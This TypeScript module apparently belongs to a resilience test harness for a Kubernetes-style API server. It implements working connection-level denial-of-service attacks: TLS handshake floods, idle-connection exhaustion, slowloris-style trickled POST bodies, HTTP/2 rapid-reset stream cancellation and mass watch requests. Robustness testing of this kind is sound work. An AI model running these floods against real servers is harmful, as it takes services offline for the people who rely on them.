/** Attacks that are not about bodies: connections that say nothing or little, streams that are opened and reset, watches that nobody reads. */
import { connect as connectHttp2, constants } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import type { Credentials } from './hostile-target.ts';

export interface ConnectionAttack {
  readonly name: string;
  /** Resolves after `isOver` has become true. */
  run(credentials: Credentials, isOver: () => boolean): Promise<void>;
}

const silentConnections = 1_000;
const slowConnections = 200;
const watches = 500;
const list = '/api/v1/namespaces/hostile/configmaps';

export const connectionAttacks: readonly ConnectionAttack[] = [
  { name: 'handshakes without a request', run: handshakes },
  { name: `${silentConnections} connections that say nothing`, run: silence },
  { name: `${slowConnections} bodies, a byte at a time`, run: slowBodies },
  { name: 'HTTP/2 streams, opened and reset', run: resets },
  { name: `${watches} watches, one after the other`, run: manyWatches },
];

async function handshakes({ server, tls }: Credentials, isOver: () => boolean): Promise<void> {
  const one = async () => {
    while (!isOver()) {
      await new Promise<void>((done) => {
        const socket = connectTls({ ...hostOf(server), ca: tls.ca }, () => {
          socket.destroy();
          done();
        });
        socket.once('error', () => done());
      });
    }
  };
  await Promise.all([one(), one(), one(), one()]);
}

async function silence({ server }: Credentials, isOver: () => boolean): Promise<void> {
  const sockets = Array.from({ length: silentConnections }, () => connectTcp(hostOf(server)).on('error', () => {}));
  while (!isOver()) await delay(50);
  for (const socket of sockets) socket.destroy();
}

async function slowBodies({ server, tls }: Credentials, isOver: () => boolean): Promise<void> {
  const head = `POST ${list} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1400000\r\n\r\n`;
  const sockets: TLSSocket[] = Array.from({ length: slowConnections }, () => {
    const socket = connectTls({ ...hostOf(server), ...tls }, () => socket.write(head));
    return socket.on('error', () => {});
  });
  for (; !isOver(); await delay(100)) {
    for (const socket of sockets) if (socket.writable) socket.write(' ');
  }
  for (const socket of sockets) socket.destroy();
}

async function resets({ server, tls }: Credentials, isOver: () => boolean): Promise<void> {
  while (!isOver()) {
    const session = connectHttp2(server, tls);
    session.on('error', () => {});
    while (!isOver() && !session.destroyed && !session.closed) {
      for (let i = 0; i < 100 && !session.destroyed && !session.closed; i++) {
        const stream = session.request({ ':path': list });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
      }
      await delay(1);
    }
    session.destroy();
  }
}

async function manyWatches({ server, tls }: Credentials, isOver: () => boolean): Promise<void> {
  while (!isOver()) {
    const session = connectHttp2(server, tls);
    session.on('error', () => {});
    for (let i = 0; i < watches && !isOver() && !session.destroyed; i++) {
      session.request({ ':path': `${list}?watch=true` }).on('error', () => {});
      if (i % 50 === 49) await delay(10);
    }
    session.destroy();
  }
}

function hostOf(server: string): { host: string; port: number } {
  const { hostname, port } = new URL(server);
  return { host: hostname, port: Number(port) };
}
